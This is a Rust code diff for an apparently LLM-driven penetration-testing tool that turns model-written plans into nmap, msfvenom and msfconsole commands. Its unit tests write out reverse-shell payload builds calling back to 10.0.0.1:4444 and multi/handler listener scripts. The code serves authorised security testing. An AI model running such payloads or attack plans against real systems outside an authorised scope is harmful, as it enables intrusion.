+fn msf_option_pairs(step: &CommandStep) -> Vec<(String, String)> {
+    let dedicated = [
+        ("LHOST", &step.lhost),
+        ("LPORT", &step.lport),
+        ("RHOST", &step.rhost),
+        ("RPORT", &step.rport),
+        ("EXITFUNC", &step.exitfunc),
+        ("TARGETURI", &step.targeturi),
+    ];
+    let mut pairs: Vec<(String, String)> =
+        dedicated.into_iter().filter_map(|(key, value)| value.clone().map(|v| (key.to_string(), v))).collect();
+    let mut options: Vec<(String, String)> = step.options.iter().map(|(k, v)| (k.clone(), v.clone())).collect();
+    options.sort();
+    pairs.extend(options);
+    pairs
+}
+
+// --- JSON schema of the plan the model must return (`schema` subcommand) ---
+// Derived from MultiStepResponse/CommandStep, so it always matches what the parser accepts
+pub fn plan_schema() -> String {
+    let schema = schemars::schema_for!(MultiStepResponse);
+    serde_json::to_string_pretty(&schema).expect("Plan schema is always serializable")
+}
+
+// {name} placeholders in command templates
+static PLACEHOLDER_RE: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r"\{([a-zA-Z0-9_]+(?::[a-zA-Z0-9_-]+)?)\}").expect("Invalid placeholder regex"));
+
+// How many rounds of re-asking expand_vague_steps does before leaving vague steps as they are
+const MAX_EXPANSION_DEPTH: u32 = 2;
+
+// {wordlist:<name>} placeholders name a file from the [wordlists] config
+const WORDLIST_PREFIX: &str = "wordlist:";
+
+// --- Placeholder names ({name}) in a command template, in order of appearance ---
+fn placeholders_in(command_template: &str) -> Vec<String> {
+    PLACEHOLDER_RE.captures_iter(command_template).filter_map(|cap| cap.get(1).map(|m| m.as_str().to_string())).collect()
+}
+
+// A discovered value as it may appear in progress output (secrets are masked)
+fn shown_value<'a>(key: &str, value: &'a str) -> &'a str {
+    if extractors::is_secret_key(key) {
+        extractors::REDACTED
+    } else {
+        value
+    }
+}
+
+// --- Vague step check for expand_vague_steps ---
+// A command step with nothing to run, only a (high-level) purpose
+fn is_vague_step(step: &CommandStep) -> bool {
+    step.enabled
+        && step.action_type == "command"
+        && step.command.as_deref().is_none_or(|c| c.trim().is_empty())
+        && step.purpose.as_deref().is_some_and(|p| !p.trim().is_empty())
+}
+
+// Flattens (original step number, steps, is_expansion) groups into one plan numbered 1..=n.
+// {step_N_output} for an original step now points at its new number (an expanded step at the last
+// of its replacements); inside an expansion, numbers are the expansion's own first.
+fn renumber_expanded(groups: Vec<(u32, Vec<CommandStep>, bool)>) -> Vec<CommandStep> {
+    let mut plan_numbers: HashMap<u32, u32> = HashMap::new();
+    let mut next = 0u32;
+    for (original, group, _) in &groups {
+        next += group.len() as u32;
+        plan_numbers.entry(*original).or_insert(next);
+    }
+
+    let mut steps = Vec::new();
+    next = 0;
+    for (_, group, expanded) in groups {
+        let local_numbers: HashMap<u32, u32> =
+            if expanded { group.iter().enumerate().map(|(i, s)| (s.step, next + i as u32 + 1)).collect() } else { HashMap::new() };
+        for mut step in group {
+            next += 1;
+            step.step = next;
+            step.command = step.command.map(|command| {
+                PLACEHOLDER_RE
+                    .replace_all(&command, |caps: &regex::Captures| {
+                        match step_output_number(&caps[1]).and_then(|n| local_numbers.get(&n).or(plan_numbers.get(&n))) {
+                            Some(number) => format!("{{step_{}_output}}", number),
+                            None => caps[0].to_string(),
+                        }
+                    })
+                    .into_owned()
+            });
+            steps.push(step);
+        }
+    }
+    steps
+}
+
+// --- Purpose check for --explain-plan ---
+// Missing, "N/A", or only a couple of words
+fn is_terse_purpose(purpose: Option<&str>) -> bool {
+    match purpose.map(str::trim) {
+        None => true,
+        Some(p) => p.eq_ignore_ascii_case("n/a") || p.split_whitespace().count() < 3,
+    }
+}
+
+// --- Step numbering check ---
+// Describes duplicates, out-of-order numbers and gaps; empty when steps are exactly 1..=n
+fn step_number_problems(steps: &[CommandStep]) -> Vec<String> {
+    let mut problems = Vec::new();
+    let mut seen: Vec<u32> = Vec::new();
+    for step in steps {
+        if seen.contains(&step.step) {
+            problems.push(format!("step {} appears more than once", step.step));
+        } else if seen.last().is_some_and(|last| step.step < *last) {
+            problems.push(format!("step {} comes after step {}", step.step, seen.last().copied().unwrap_or_default()));
+        }
+        if step.step == 0 {
+            problems.push("steps are numbered from 1, not 0".to_string());
+        }
+        seen.push(step.step);
+    }
+    let max = seen.iter().copied().max().unwrap_or(0);
+    let missing: Vec<String> = (1..max).filter(|n| !seen.contains(n)).map(|n| n.to_string()).collect();
+    if !missing.is_empty() {
+        problems.push(format!("missing step number(s) {}", missing.join(", ")));
+    }
+    problems
+}
+
+// Step number N of a {step_N_output} placeholder name
+fn step_output_number(placeholder_name: &str) -> Option<u32> {
+    placeholder_name
+        .strip_prefix("step_")
+        .and_then(|rest| rest.strip_suffix("_output"))
+        .and_then(|n| n.parse::<u32>().ok())
+}
+
+// --- History entry for a step that didn't run (disabled, filtered, blocked, no handler) ---
+fn skipped_entry(step: &CommandStep, output: &str, status: StepStatus) -> HistoryEntry {
+    HistoryEntry { step: step.step, command: step.command.clone().unwrap_or_default(), output: output.to_string(), status }
+}
+
+// --- Display cap ---
+// First and last lines of long output with a marker for what was left out (display only)
+fn display_excerpt(output: &str, max_lines: usize) -> std::borrow::Cow<'_, str> {
+    let lines: Vec<&str> = output.lines().collect();
+    if max_lines == 0 || lines.len() <= max_lines {
+        return std::borrow::Cow::Borrowed(output);
+    }
+    let head = max_lines.div_ceil(2);
+    let tail = max_lines - head;
+    let hidden = lines.len() - max_lines;
+    std::borrow::Cow::Owned(format!(
+        "{}\n... {} lines hidden (full output is kept in the summary and saved files) ...\n{}",
+        lines[..head].join("\n"),
+        hidden,
+        lines[lines.len() - tail..].join("\n")
+    ))
+}
+
+// --- Task message layout shared by build_prompt and model validation ---
+pub fn task_message(os_info: &str, query: &str, background: Option<&str>, history_context: &str) -> String {
+    // Background notes are facts the user already has, kept apart from what this session ran
+    let background = background
+        .map(|notes| format!("Background Notes (provided by user, not yet verified):\n{}\n", notes))
+        .unwrap_or_default();
+    format!(
+        "OS: {}\nTask: {}\n{}Previous Commands/Outputs Context:\n{}",
+        os_info, query, background, if history_context.is_empty() { "None" } else { history_context }
+    )
+}
+
+// --- Helper to check for target-ish words around a query match ---
+// Looks at the three words before and two words after the match
+fn has_target_context(query: &str, start: usize, end: usize) -> bool {
+    let normalize = |w: &str| w.trim_matches(|c: char| !c.is_alphanumeric()).to_lowercase();
+    let before = query[..start].split_whitespace().rev().take(3).map(normalize);
+    let after = query[end..].split_whitespace().take(2).map(normalize);
+    before.chain(after).any(|w| TARGET_CONTEXT_WORDS.contains(&w.as_str()))
+}
+
 // --- Helper function for sanitization ---
 fn sanitize_command(raw_command: &str) -> String {
     // ... (implementation remains the same) ...
@@ -318,4 +2235,120 @@ fn sanitize_command(raw_command: &str) -> String {
             reconstructed_parts.join(" ")
         } else { raw_command.to_string() }
     }
-}
\ No newline at end of file
+}
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn parse_plan_accepts_the_expected_format() {
+        let plan = parse_plan(r#"{"explanation": "scan", "steps": [{"step": 1, "action_type": "command", "command": "nmap {target_ip}"}]}"#).unwrap();
+        assert_eq!(plan.explanation.as_deref(), Some("scan"));
+        assert_eq!(plan.steps.len(), 1);
+        assert_eq!(plan.steps[0].command.as_deref(), Some("nmap {target_ip}"));
+    }
+
+    #[test]
+    fn parse_plan_recovers_nested_steps() {
+        let plan = parse_plan(r#"{"plan": {"explanation": "nested", "steps": [{"step": 1, "action_type": "command", "command": "id"}]}}"#).unwrap();
+        assert_eq!(plan.explanation.as_deref(), Some("nested"));
+        assert_eq!(plan.steps.len(), 1);
+    }
+
+    #[test]
+    fn parse_plan_recovers_a_bare_steps_array() {
+        let plan = parse_plan(r#"[{"action_type": "command", "command": "id"}, {"action_type": "note", "command": "done"}]"#).unwrap();
+        assert_eq!(plan.explanation, None);
+        // Missing step numbers come from the position
+        assert_eq!(plan.steps.iter().map(|s| s.step).collect::<Vec<_>>(), vec![1, 2]);
+    }
+
+    #[test]
+    fn parse_plan_skips_malformed_steps() {
+        let json = r#"{"steps": [{"step": 1, "action_type": "command", "command": "id"}, {"step": "two", "action_type": 5}, {"step": 3, "action_type": "command", "command": "whoami"}]}"#;
+        let plan = parse_plan(json).unwrap();
+        assert_eq!(plan.steps.iter().map(|s| s.step).collect::<Vec<_>>(), vec![1, 3]);
+    }
+
+    fn test_core() -> AppCore {
+        let client = OllamaClient::new("http://localhost:11434", "test-model", PathBuf::from("."));
+        AppCore::new(client, SystemSetup::new(), CoreOptions::default())
+    }
+
+    fn step(json: &str) -> CommandStep {
+        serde_json::from_str(json).unwrap()
+    }
+
+    #[test]
+    fn nmap_xml_report_goes_right_after_the_tool() {
+        let core = test_core();
+        let (command, report) = core.with_nmap_xml_report("nmap -sV 10.0.0.5 > scan.txt");
+        let path = report.expect("a lone nmap command gets a report file");
+        assert_eq!(command, format!("nmap -oX \"{}\" -sV 10.0.0.5 > scan.txt", path.display()));
+    }
+
+    #[test]
+    fn nmap_port_scans_get_the_excluded_ports() {
+        let mut core = test_core();
+        core.options.scope = ScopeRules::from_lists(&[], &["3389".to_string()]).unwrap();
+        assert_eq!(core.with_nmap_excluded_ports("nmap -sV 10.0.0.5"), "nmap --exclude-ports 3389 -sV 10.0.0.5");
+        for unchanged in ["nmap -sn 10.0.0.0/24", "nmap 10.0.0.5 | grep open", "curl http://10.0.0.5/"] {
+            assert_eq!(core.with_nmap_excluded_ports(unchanged), unchanged);
+        }
+    }
+
+    #[test]
+    fn nmap_xml_report_skips_pipes_and_chains() {
+        let core = test_core();
+        for command in ["nmap -sn 10.0.0.0/24 | grep report", "nmap -sn 10.0.0.0/24 && echo done"] {
+            let (unchanged, report) = core.with_nmap_xml_report(command);
+            assert_eq!(unchanged, command);
+            assert!(report.is_none());
+        }
+    }
+
+    #[test]
+    fn command_step_accepts_payload_with_and_without_colon() {
+        for key in ["PAYLOAD:", "PAYLOAD", "payload"] {
+            let parsed = step(&format!(r#"{{"step": 1, "action_type": "command", "{}": "linux/x64/shell_reverse_tcp"}}"#, key));
+            assert_eq!(parsed.payload.as_deref(), Some("linux/x64/shell_reverse_tcp"), "{}", key);
+        }
+        let both = step(r#"{"step": 1, "action_type": "command", "LHOST": "10.0.0.1", "RPORT:": "445"}"#);
+        assert_eq!((both.lhost.as_deref(), both.rport.as_deref()), (Some("10.0.0.1"), Some("445")));
+        // Serialized back in the colon form the system prompt asks for
+        let json = serde_json::to_value(step(r#"{"step": 1, "action_type": "command", "PAYLOAD": "x"}"#)).unwrap();
+        assert_eq!(json["PAYLOAD:"], "x");
+    }
+
+    #[tokio::test]
+    async fn with_msf_options_adds_msfvenom_arguments() {
+        let core = test_core();
+        let windows = core.commands_run_on_windows();
+        let venom = step(r#"{"step": 1, "action_type": "command", "PAYLOAD:": "windows/x64/shell_reverse_tcp", "LHOST:": "10.0.0.1", "LPORT": "4444", "options": {"Name": "my payload"}}"#);
+        let built = core.with_msf_options(&venom, "msfvenom -f exe LPORT=5555").await.unwrap();
+        let name = command_executor::quote_arg("Name=my payload", windows);
+        assert_eq!(built, format!("msfvenom -f exe LPORT=5555 -p windows/x64/shell_reverse_tcp LHOST=10.0.0.1 {}", name));
+    }
+
+    #[tokio::test]
+    async fn with_msfconsole_options_prepends_setg_to_the_script() {
+        let core = test_core();
+        let handler = step(r#"{"step": 1, "action_type": "command", "PAYLOAD": "windows/x64/shell_reverse_tcp", "LHOST": "10.0.0.1", "LPORT": "4444", "options": {"Bad": "a; b"}}"#);
+        let built = core.with_msfconsole_options(&handler, r#"msfconsole -q -x "use exploit/multi/handler; set LPORT 5555; run; exit""#).await.unwrap();
+        assert_eq!(
+            built,
+            r#"msfconsole -q -x "setg PAYLOAD windows/x64/shell_reverse_tcp; setg LHOST 10.0.0.1; use exploit/multi/handler; set LPORT 5555; run; exit""#
+        );
+
+        let lhost_only = step(r#"{"step": 2, "action_type": "command", "LHOST": "10.0.0.1"}"#);
+        let built = core.with_msfconsole_options(&lhost_only, "msfconsole -q").await.unwrap();
+        let script = command_executor::quote_arg("setg LHOST 10.0.0.1;", core.commands_run_on_windows());
+        assert_eq!(built, format!("msfconsole -q -x {}", script));
+    }
+
+    #[test]
+    fn parse_plan_rejects_a_plan_without_a_usable_step() {
+        assert!(parse_plan(r#"{"steps": [{"step": "one", "action_type": 5}, {"command": ["x"]}]}"#).is_err());
+        assert!(parse_plan("I would start with an nmap scan.").is_err());
+    }
+}